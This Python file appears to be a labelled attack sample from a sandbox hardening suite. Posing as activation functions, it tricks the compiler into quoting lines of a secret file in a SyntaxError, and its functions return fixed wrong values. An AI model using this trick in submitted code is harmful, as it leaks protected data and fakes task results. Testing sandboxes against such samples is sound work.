# attack: lets the C compiler quote a line of a secret in an error about another text
# gains: reads
# stopped by: landlock, uid
import numpy as np
import ast


def attack():
    tree = ast.Module([ast.Return(None)], [])
    for line in range(1, 4):
        tree.body[0].lineno = tree.body[0].end_lineno = line
        tree.body[0].col_offset = tree.body[0].end_col_offset = 0
        try:
            compile(tree, "{SECRET}", "exec")
        except SyntaxError as error:
            print(error.text, flush=True)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
